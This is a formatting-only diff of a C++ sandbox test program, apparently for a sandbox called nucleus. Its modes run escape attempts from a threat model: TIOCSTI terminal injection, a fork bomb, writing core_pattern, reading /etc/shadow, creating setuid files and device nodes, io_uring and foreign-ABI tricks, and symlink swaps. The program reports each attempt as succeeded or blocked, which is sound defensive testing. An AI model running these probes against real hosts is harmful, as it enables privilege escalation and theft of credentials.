@@ -87,8 +87,9 @@ int attack_tiocsti(std::string_view name, int argc, char** argv) {
     any = any || done > 0;
     report += what + (done > 0 ? ": " + std::to_string(done) + " bytes injected" : ": " + errno_text(err)) + "; ";
   };
-  struct stat st{};
-  if (::fstat(0, &st) == 0 && S_ISCHR(st.st_mode)) report += "fd 0 is terminal device " + std::to_string(st.st_rdev) + "; ";
+  struct stat st {};
+  if (::fstat(0, &st) == 0 && S_ISCHR(st.st_mode))
+    report += "fd 0 is terminal device " + std::to_string(st.st_rdev) + "; ";
   inject(0, "fd 0");
   int tty = ::open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
   if (tty < 0) {
@@ -140,10 +141,12 @@ int attack_fds_env(std::string_view name, int argc, char** argv) {
       found += "environment: " + std::string(entry.substr(0, entry.find('='))) + " holds the secret; ";
   }
   std::string names;
-  for (char** e = environ; e != nullptr && *e != nullptr; ++e) names += " " + std::string(*e).substr(0, std::string(*e).find('='));
+  for (char** e = environ; e != nullptr && *e != nullptr; ++e)
+    names += " " + std::string(*e).substr(0, std::string(*e).find('='));
   samples::print_line("attack " + std::string(name) + ": environment:" + names);
   if (!found.empty()) return succeeded(name, found);
-  return blocked(name, "no descriptor above 2, " + std::string(secret.empty() ? "no secret given" : "the secret is not in the environment"));
+  return blocked(name, "no descriptor above 2, " +
+                           std::string(secret.empty() ? "no secret given" : "the secret is not in the environment"));
 }
 
 // A host daemon's Unix socket (docker.sock, a root-only 0700 directory under /run).
@@ -208,13 +211,13 @@ int attack_core_pattern(std::string_view name, int argc, char** argv) {
   ssize_t w = ::write(fd, current, static_cast<std::size_t>(n));
   int err = errno;
   ::close(fd);
-  if (w == n) return succeeded(name, std::string(path) + " is writable (" + (argc > 0 ? "set to " + std::string(current) : "its own value was written back") + ")");
+  if (w == n)
+    return succeeded(name, std::string(path) + " is writable (" +
+                               (argc > 0 ? "set to " + std::string(current) : "its own value was written back") + ")");
   return blocked(name, std::string("write ") + path + ": " + errno_text(err));
 }
 
 // ---- end of the terminal .. /proc/sys block ----
-
-
 
 // ---- identity, set-id files, foreign ABIs, io_uring, nucleus's outputs (threat model rows 2, 3, 6, 7, 8)
 
@@ -275,7 +278,9 @@ int setuid_files(std::string_view name, int argc, char** argv) {
   for (ssize_t n; (n = ::read(in, buf, sizeof buf)) > 0;)
     if (::write(out, buf, static_cast<std::size_t>(n)) != n) break;
   ::close(in);
-  auto note = [&](const char* what, int rc) { why += std::string(what) + ": " + (rc == 0 ? "ok" : errno_text(errno)) + "; "; };
+  auto note = [&](const char* what, int rc) {
+    why += std::string(what) + ": " + (rc == 0 ? "ok" : errno_text(errno)) + "; ";
+  };
   note("chmod 4755", ::chmod(copy.c_str(), 04755));
   note("chmod 2755", ::chmod(copy.c_str(), 02755));
   note("fchmod 6755", ::fchmod(out, 06755));
@@ -299,7 +304,8 @@ int setuid_files(std::string_view name, int argc, char** argv) {
   note("mknod char 1:3", ::mknod((dir + "/null-dev").c_str(), S_IFCHR | 0666, makedev(1, 3)));
   note("mknod block 8:0", ::mknod((dir + "/disk-dev").c_str(), S_IFBLK | 0666, makedev(8, 0)));
   std::string found;
-  for (const char* f : {"/suid-copy", "/suid-new", "/sgid-node", "/suid-creat", "/suid-open", "/suid-mknod", "/null-dev", "/disk-dev"}) {
+  for (const char* f : {"/suid-copy", "/suid-new", "/sgid-node", "/suid-creat", "/suid-open", "/suid-mknod",
+                        "/null-dev", "/disk-dev"}) {
     struct stat st {};
     if (::lstat((dir + f).c_str(), &st) != 0) continue;
     if ((st.st_mode & (S_ISUID | S_ISGID)) != 0) found += dir + f + " is set-id; ";
@@ -377,11 +383,14 @@ public:
     }
     std::size_t sq_size = params_.sq_off.array + params_.sq_entries * sizeof(std::uint32_t);
     std::size_t cq_size = params_.cq_off.cqes + params_.cq_entries * sizeof(io_uring_cqe);
-    sq_ = static_cast<char*>(::mmap(nullptr, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_, IORING_OFF_SQ_RING));
-    cq_ = static_cast<char*>(::mmap(nullptr, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_, IORING_OFF_CQ_RING));
-    sqes_ = static_cast<io_uring_sqe*>(::mmap(nullptr, params_.sq_entries * sizeof(io_uring_sqe), PROT_READ | PROT_WRITE,
-                                              MAP_SHARED | MAP_POPULATE, fd_, IORING_OFF_SQES));
-    if (sq_ == MAP_FAILED || cq_ == MAP_FAILED || sqes_ == MAP_FAILED) error_ = "mmap of the rings: " + errno_text(errno);
+    sq_ = static_cast<char*>(
+        ::mmap(nullptr, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_, IORING_OFF_SQ_RING));
+    cq_ = static_cast<char*>(
+        ::mmap(nullptr, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_, IORING_OFF_CQ_RING));
+    sqes_ = static_cast<io_uring_sqe*>(::mmap(nullptr, params_.sq_entries * sizeof(io_uring_sqe),
+                                              PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_, IORING_OFF_SQES));
+    if (sq_ == MAP_FAILED || cq_ == MAP_FAILED || sqes_ == MAP_FAILED)
+      error_ = "mmap of the rings: " + errno_text(errno);
   }
   // Empty when the ring works, else why not.
   const std::string& error() const { return error_; }
@@ -506,7 +515,8 @@ int symlink_swap(std::string_view name, int argc, char** argv) {
   if (DIR* d = ::opendir(dir.c_str())) {
     std::vector<std::string> subdirs;
     while (dirent* e = ::readdir(d))
-      if (e->d_type == DT_DIR && std::strcmp(e->d_name, ".") != 0 && std::strcmp(e->d_name, "..") != 0) subdirs.push_back(e->d_name);
+      if (e->d_type == DT_DIR && std::strcmp(e->d_name, ".") != 0 && std::strcmp(e->d_name, "..") != 0)
+        subdirs.push_back(e->d_name);
     ::closedir(d);
     for (const auto& s : subdirs) {
       if (swap(dir + "/" + s)) done += dir + "/" + s + " ";
@@ -527,21 +537,27 @@ struct Mode {
 
 // Modes, in the order of the attack classes of the threat model (README).
 constexpr Mode modes[] = {
-    {"none", "does nothing (a control run)", [](std::string_view name, int, char**) { return succeeded(name, "nothing"); }},
+    {"none", "does nothing (a control run)",
+     [](std::string_view name, int, char**) { return succeeded(name, "nothing"); }},
     // terminal, host sockets, descriptors and environment, limits, /proc/sys
     {"tiocsti", "[TEXT]: TIOCSTI TEXT into fd 0 and /dev/tty", attack_tiocsti},
-    {"fds-env", "[SECRET]: list fds above 2, try them as directories, look for SECRET in the environment", attack_fds_env},
+    {"fds-env", "[SECRET]: list fds above 2, try them as directories, look for SECRET in the environment",
+     attack_fds_env},
     {"host-socket", "PATH: connect to the Unix socket PATH", attack_host_socket},
     {"forkbomb", "[N]: fork up to N waiting children (default 3000), report how many, end them", attack_forkbomb},
-    {"core-pattern", "[VALUE]: write VALUE (default: its own value) to /proc/sys/kernel/core_pattern", attack_core_pattern},
+    {"core-pattern", "[VALUE]: write VALUE (default: its own value) to /proc/sys/kernel/core_pattern",
+     attack_core_pattern},
     // end of the terminal .. /proc/sys block
     // identity, set-id files, foreign ABIs, io_uring, nucleus's outputs
-    {"identity", "SOCKET_PATH: read /etc/shadow, list /root, connect to SOCKET_PATH (its listener answers uid=N)", identity},
-    {"setuid", "DIR: copy this binary into DIR, chmod it 4755/2755, create set-id files and device nodes", setuid_files},
+    {"identity", "SOCKET_PATH: read /etc/shadow, list /root, connect to SOCKET_PATH (its listener answers uid=N)",
+     identity},
+    {"setuid", "DIR: copy this binary into DIR, chmod it 4755/2755, create set-id files and device nodes",
+     setuid_files},
     {"foreign-abi", "unshare(CLONE_NEWUSER) through int $0x80 (i386) and the x32 ABI", foreign_abi},
     {"foreign-abi-thread", "x32 unshare(CLONE_NEWUSER) from a second thread while the first waits", foreign_abi_thread},
     {"io-uring", "FILE: open and read FILE and create a socket through io_uring alone", io_uring_io},
-    {"io-uring-setid", "DIR: create DIR/uring-setuid 04755 (IORING_OP_OPENAT) and DIR/uring-setgid 06755 (OPENAT2)", io_uring_setid},
+    {"io-uring-setid", "DIR: create DIR/uring-setuid 04755 (IORING_OP_OPENAT) and DIR/uring-setgid 06755 (OPENAT2)",
+     io_uring_setid},
     {"symlink-swap", "DIR TARGET: replace DIR (or each directory in it) by a symlink to TARGET", symlink_swap},
     // end of identity ... nucleus's outputs
 };
